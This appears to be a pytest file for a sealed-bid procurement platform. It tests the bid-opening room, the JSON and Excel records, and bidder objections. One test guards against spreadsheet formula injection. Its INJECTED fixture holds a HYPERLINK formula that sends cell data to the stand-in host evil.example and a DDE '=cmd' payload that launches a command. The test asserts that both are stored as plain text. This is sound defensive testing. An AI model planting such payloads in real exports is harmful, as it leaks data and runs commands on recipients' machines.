"""The opening room in the browser: holders release shares, the record is published to followers, the JSON the
page polls, the Excel export, objections."""

from __future__ import annotations

import io

import openpyxl
import sqlalchemy as sa

from tests.conftest import FIXED_NOW, login
from tests.services.test_opening import PRICES
from trading.domain import pki
from trading.domain.sealing import envelope
from trading.extensions import db
from trading.models import Lot
from trading.platform import current_platform
from trading.services import bids, chronograph, deposits, keys, pledges, registrations
from trading.simulate import demo as demo_data, lots as walk


def client_for(app, username):
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def prepare(app, **declared) -> int:
    """The demo construction lot with three sealed bids, past its deadline (opening); ``declared`` adds to (or
    replaces) the fields each bid declares beside its price."""
    with app.app_context():
        demo_data.load_lots(current_platform(), db.session, FIXED_NOW)
        people = walk.cast(db.session)
        lot = walk.existing(db.session, "construction")
        for bidder, price in zip(people.bidders[:3], PRICES, strict=True):
            if registrations.registration_of(db.session, lot, bidder.organisation_id) is None:
                registrations.sign_up(db.session, bidder, FIXED_NOW, lot,
                                      pledge=pledges.accepted(db.session, lot, bidder))
            deposit = deposits.deposit_of(db.session, lot, bidder.organisation_id)
            if deposit.status != "paid":
                deposits.pay(db.session, bidder, FIXED_NOW, target_number=deposit.sub_account.number,
                             amount=str(deposit.required - deposit.received))
            key_file, pem = keys.issue_certificate(current_platform(), db.session, bidder, FIXED_NOW, "keypass2026")
            out = io.BytesIO()
            envelope.seal(out, lot_code=lot.deal_code, bidder_code=bidder.organisation.credit_code,
                          lot_public_key=keys.opening_key_of(db.session, lot).public_key,
                          price_form={"price": price, "duration": "300日历天", **declared}, files=[],
                          signer=pki.load_private_key(key_file, "keypass2026"), certificate_pem=pem)
            bids.submit(current_platform(), db.session, bidder, lot, io.BytesIO(out.getvalue()))
        chronograph.tick(current_platform(), db.session, lot.bid_deadline)
        db.session.commit()
        app.extensions["trading"].clock.move_to(lot.bid_deadline)
        return lot.id


def test_holders_release_shares_and_followers_see_the_record(app, demo):
    lot_id = prepare(app)
    bidder = client_for(app, "bidder1")
    assert bidder.get(f"/lots/{lot_id}/opening.json").json["entries"] == []
    for holder in ("staff", "supervisor"):  # server-kept demo keys: the key-holder passphrase, not the login password
        client_for(app, holder).post(f"/lots/{lot_id}/opening/release",
                                     data={"passphrase": demo.DEMO_KEY_PASSPHRASE})
    data = bidder.get(f"/lots/{lot_id}/opening.json").json
    assert [e["price"] for e in data["entries"]] == PRICES and all(s["released"] for s in data["shares"][:2])
    page = bidder.get(f"/lots/{lot_id}/opening").get_data(as_text=True)
    assert "38,100,000.00" in page and "湖北鄂南建筑工程有限公司" in page
    sheet = openpyxl.load_workbook(io.BytesIO(bidder.get(f"/lots/{lot_id}/opening.xlsx").data)).active
    assert [row[2] for row in sheet.iter_rows(min_row=5, values_only=True)] == [float(p) for p in PRICES]
    assert client_for(app, "bidder5").get(f"/lots/{lot_id}/opening").status_code == 404  # not signed up


INJECTED = {"duration": '=HYPERLINK("http://evil.example/?"&A1,"300日历天")', "=cmd|' /C calc'!A0": "@SUM(1+1)"}


def test_a_declared_field_that_looks_like_a_formula_is_text_in_the_excel_record(app, demo):
    """Issue 14: whatever a bidder declares, the record every follower downloads holds it as text, not a formula."""
    lot_id = prepare(app, **INJECTED)
    for holder in ("staff", "supervisor"):
        client_for(app, holder).post(f"/lots/{lot_id}/opening/release", data={"passphrase": demo.DEMO_KEY_PASSPHRASE})
    response = client_for(app, "bidder1").get(f"/lots/{lot_id}/opening.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(min_row=5))
    assert len(rows) == 3
    for row in rows:
        duration, others = row[3], row[4]
        assert duration.value == INJECTED["duration"] and duration.data_type == "s" and duration.quotePrefix
        assert others.value == "=cmd|' /C calc'!A0：@SUM(1+1)" and others.data_type == "s" and others.quotePrefix
        assert row[2].data_type == "n"  # the price stays a number the record can sum
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_a_bidder_objects_and_staff_answer(app, demo):
    lot_id = prepare(app)
    client_for(app, "bidder2").post(f"/lots/{lot_id}/opening/objections", data={"text": "请核对第三名的工期"})
    staff = client_for(app, "staff")
    data = staff.get(f"/lots/{lot_id}/opening.json").json
    assert data["objections"][0]["text"] == "请核对第三名的工期"
    staff.post(f"/opening-objections/{data['objections'][0]['id']}/answer", data={"text": "已核对，工期如实唱标。"})
    assert staff.get(f"/lots/{lot_id}/opening.json").json["objections"][0]["answer"] == "已核对，工期如实唱标。"
    with app.app_context():
        assert db.session.scalar(sa.select(Lot.state).where(Lot.id == lot_id)) == "opening"
